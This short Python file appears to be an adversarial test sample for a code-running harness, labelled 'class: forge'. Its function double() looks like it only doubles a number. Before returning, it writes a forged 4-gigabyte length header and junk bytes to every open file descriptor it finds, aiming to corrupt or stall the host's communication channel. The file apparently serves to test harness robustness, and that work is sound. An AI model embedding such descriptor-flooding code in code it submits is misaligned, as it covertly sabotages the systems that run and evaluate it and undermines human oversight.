"""A frame of four gigabytes is announced.

class: forge
affects: A01 A08
"""
from honest import *

import os
def _others():
    return [n for n in range(3, 256) if _open(n)]
def _open(n):
    try: os.fstat(n); return True
    except OSError: return False

def double(number):
    for n in _others():
        try: os.write(n, b"\xff\xff\xff\xff" + b"x" * 4096)
        except OSError: pass
    return number * 2
